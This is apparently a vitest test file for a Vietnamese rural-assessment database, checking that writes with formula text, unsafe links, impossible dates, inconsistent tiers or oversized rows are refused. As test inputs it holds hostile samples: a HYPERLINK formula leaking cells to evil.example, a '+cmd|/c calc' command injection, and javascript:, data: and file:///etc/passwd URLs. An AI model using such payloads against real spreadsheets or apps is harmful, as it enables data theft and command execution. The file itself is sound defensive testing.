/**
 * Issue 13, items 1 and 3: the database itself refuses bad text, unsafe links, impossible dates, tiers
 * that contradict the criteria and oversized writes, whoever writes (direct PostgREST table writes
 * and the import function alike). Each attack is run as the caller would, and each refusal must leave
 * every writable table byte-identical.
 */
import { describe, expect, it } from 'vitest';
import {
  PROVINCE_EDITOR,
  asRole,
  attempt,
  districtEditor,
  useClients,
  writableDigest,
  type Claims,
  type Query,
} from './helpers';

const db = useClients();

const SAN_THANG = '03409'; // xã of district 105 (2020 vintage)
const ALL = Array.from({ length: 19 }, (_, i) => i + 1);
const META = { source: 'Báo cáo kiểm thử 13/BC-UBND', illustrative: false };

type Outcome = { ok: true; rowCount: number } | { ok: false; code: string; message: string };

/**
 * Runs `attack` as `claims` on the superuser connection, with the owner's digest of every writable
 * table taken before and after it inside the same transaction (then rolled back).
 */
async function refused(claims: Claims, attack: (q: Query) => Promise<Outcome>) {
  return asRole(db.admin, claims, async (q) => {
    const digest = async () => {
      await q('reset role');
      const d = await writableDigest(q);
      await q(`set local role ${claims.role}`);
      return d;
    };
    const before = await digest();
    const outcome = await attack(q);
    return { outcome, same: JSON.stringify(await digest()) === JSON.stringify(before) };
  });
}

const importRows = (q: Query, rows: unknown, meta: unknown = META, year = 2024) =>
  attempt(q, `select public.import_assessments($1, $2::json, $3::json)`, [
    year,
    typeof rows === 'string' ? rows : JSON.stringify(rows),
    JSON.stringify(meta),
  ]);

const row = (extra: Record<string, unknown> = {}) => ({
  row: 2,
  code: SAN_THANG,
  criteria_met: [1, 2],
  criteria_missing: [],
  tier: 'chua_dat',
  urban_status: null,
  decision_no: null,
  decision_date: null,
  ...extra,
});

describe('item 1: text a spreadsheet would run as a formula', () => {
  const hyperlink = '=HYPERLINK("https://evil.example/?d="&B2&C2,"Xem")';

  it('a district editor cannot store a formula as a decision number through the import', async () => {
    const r = await refused(districtEditor('105'), (q) => importRows(q, [row({ decision_no: hyperlink })]));
    expect(r.outcome).toMatchObject({
      ok: false,
      code: '23514',
      message: expect.stringContaining(
        'Dòng 2 (mã 03409): Số quyết định không được bắt đầu bằng =, +, -, @ hay |',
      ),
    });
    expect(r.same).toBe(true);
  });

  it.each([
    ['decision_no', 'unit_assessment', '+cmd|/c calc'],
    ['decision_no', 'unit_assessment', '-2+3'],
    ['source', 'unit_assessment', '@SUM(A1:A9)'],
    ['source', 'unit_assessment', '\t=1+1'],
    ['source', 'district_status', '\r=1+1'],
    ['note', 'statistic_observation', '=1+1'],
  ])('a direct write of %s on %s starting %j is refused', async (column, table, value) => {
    const r = await refused(PROVINCE_EDITOR, (q) =>
      attempt(q, `update public.${table} set ${column} = $1 where year = 2020`, [value]),
    );
    expect(r.outcome).toMatchObject({
      ok: false,
      // A leading tab or CR is an invisible control character to the rule of issue 20.
      message: expect.stringMatching(/không được bắt đầu bằng|ký tự điều khiển/),
    });
    expect(r.same).toBe(true);
  });

  it('the same text further in is fine (only a leading sign makes a formula)', async () => {
    const r = await asRole(db.api, PROVINCE_EDITOR, (q) =>
      attempt(q, `update public.unit_assessment set decision_no = $1 where unit_code = $2 and year = 2024`, [
        'QĐ 12 = 3-4 @tỉnh',
        SAN_THANG,
      ]),
    );
    expect(r).toEqual({ ok: true, rowCount: 1 });
  });
});

describe('item 3: rules the browser used to check alone', () => {
  it('every text field has a length limit', async () => {
    const r = await refused(PROVINCE_EDITOR, (q) =>
      attempt(q, `update public.unit_assessment set decision_no = $1 where unit_code = $2 and year = 2024`, [
        'Q'.repeat(201),
        SAN_THANG,
      ]),
    );
    expect(r.outcome).toMatchObject({
      ok: false,
      code: '22001',
      message: expect.stringContaining('Số quyết định dài 201 ký tự, tối đa 200'),
    });
    expect(r.same).toBe(true);
  });

  it.each(['javascript:alert(1)', 'data:text/html,<script>', 'file:///etc/passwd', 'https://a b'])(
    'source_url %j is refused, directly and through the import',
    async (url) => {
      const direct = await refused(PROVINCE_EDITOR, (q) =>
        attempt(q, `update public.indicator_observation set source_url = $1`, [url]),
      );
      expect(direct.outcome).toMatchObject({
        ok: false,
        // A space is refused by the RFC 3986 rule of issue 20, with its own message.
        message: expect.stringMatching(
          /Đường dẫn nguồn (phải bắt đầu bằng http:\/\/ hoặc https:\/\/|chứa khoảng trắng)/,
        ),
      });
      expect(direct.same).toBe(true);
      const viaImport = await refused(PROVINCE_EDITOR, (q) =>
        importRows(q, [row()], { ...META, source_url: url }),
      );
      expect(viaImport.outcome).toMatchObject({ ok: false, code: '23514' });
      expect(viaImport.same).toBe(true);
    },
  );

  it('a NUL character in the JSON gets a Vietnamese refusal, not a parser error', async () => {
    const json = JSON.stringify([row({ decision_no: 'QĐ\u00001' })]);
    expect(json).toContain('\\u0000');
    const r = await refused(PROVINCE_EDITOR, (q) => importRows(q, json));
    expect(r.outcome).toMatchObject({
      ok: false,
      code: '22P05',
      message: expect.stringContaining('Dữ liệu chứa ký tự NUL'),
    });
    expect(r.same).toBe(true);
    // A literal backslash followed by "u0000" is ordinary text, not a NUL.
    const literal = await asRole(db.api, PROVINCE_EDITOR, (q) =>
      importRows(q, [row({ decision_no: 'QĐ \\u0000' })]),
    );
    expect(literal).toMatchObject({ ok: true });
  });

  it.each([
    ['1999-12-31', 'before 2000'],
    ['2999-01-01', 'in the future'],
  ])('a decision dated %s (%s) is refused', async (date) => {
    const r = await refused(districtEditor('105'), (q) => importRows(q, [row({ decision_date: date })]));
    expect(r.outcome).toMatchObject({
      ok: false,
      message: expect.stringContaining('phải từ 01/01/2000 đến hôm nay'),
    });
    expect(r.same).toBe(true);
  });

  it('kieu_mau with 0 criteria met is refused, directly and through the import', async () => {
    const direct = await refused(PROVINCE_EDITOR, (q) =>
      attempt(
        q,
        `update public.unit_assessment set tier = 'kieu_mau', criteria_met = '{}', criteria_missing = '{}'
         where unit_code = $1 and year = 2024`,
        [SAN_THANG],
      ),
    );
    expect(direct.outcome).toMatchObject({
      ok: false,
      code: '23514',
      message: expect.stringContaining('ở mức kieu_mau cần đạt đủ 19/19 tiêu chí, mới ghi 0 đạt'),
    });
    expect(direct.same).toBe(true);
    for (const tier of ['dat_chuan', 'nang_cao', 'kieu_mau']) {
      const viaImport = await refused(PROVINCE_EDITOR, (q) =>
        importRows(q, [row({ tier, criteria_met: ALL.slice(1), criteria_missing: [1] })]),
      );
      expect(viaImport.outcome).toMatchObject({ ok: false, message: expect.stringContaining('18 đạt') });
      expect(viaImport.same).toBe(true);
    }
    const allMet = await asRole(db.api, PROVINCE_EDITOR, (q) =>
      importRows(q, [row({ tier: 'kieu_mau', criteria_met: ALL })]),
    );
    expect(allMet).toMatchObject({ ok: true });
  });

  it('one direct write of more than 500 rows is refused as a whole; 500 pass', async () => {
    const insert = (n: number) => (q: Query) =>
      attempt(
        q,
        `insert into public.statistic_observation (series_id, year, district_code, value, source)
         select (select id from public.statistic_series limit 1), 2001, lpad(i::text, 3, '0'), i, 'Báo cáo'
         from generate_series(1, $1) i`,
        [n],
      );
    const big = await refused(PROVINCE_EDITOR, insert(501));
    expect(big.outcome).toMatchObject({
      ok: false,
      code: '54000',
      message: expect.stringContaining('Một lần ghi tối đa 500 dòng, lần này 501 dòng'),
    });
    expect(big.same).toBe(true);
    expect(await asRole(db.api, PROVINCE_EDITOR, insert(500))).toEqual({ ok: true, rowCount: 500 });
  });

  it('the import takes at most 500 rows per call', async () => {
    const rows = Array.from({ length: 501 }, (_, i) => row({ row: i + 2, code: String(i).padStart(5, '9') }));
    const r = await refused(PROVINCE_EDITOR, (q) => importRows(q, rows));
    expect(r.outcome).toMatchObject({
      ok: false,
      message: expect.stringContaining('Quá nhiều dòng: 501 (tối đa 500)'),
    });
    expect(r.same).toBe(true);
  });

  it('one row of more than 8192 bytes is refused, directly and through the import', async () => {
    // Within every length limit (2000 + 500 characters), but four bytes each.
    const r = await refused(PROVINCE_EDITOR, (q) =>
      attempt(q, `update public.indicator_observation set note = $1, source = $2 where year = 2020`, [
        '𝕏'.repeat(2000),
        '𝕏'.repeat(500),
      ]),
    );
    expect(r.outcome).toMatchObject({
      ok: false,
      code: '54000',
      message: expect.stringContaining('Dòng quá lớn'),
    });
    expect(r.same).toBe(true);
    const viaImport = await refused(PROVINCE_EDITOR, (q) =>
      importRows(q, [row({ padding: 'x'.repeat(9000) })]),
    );
    expect(viaImport.outcome).toMatchObject({
      ok: false,
      message: expect.stringContaining('Dòng 2 quá lớn'),
    });
    expect(viaImport.same).toBe(true);
  });
});
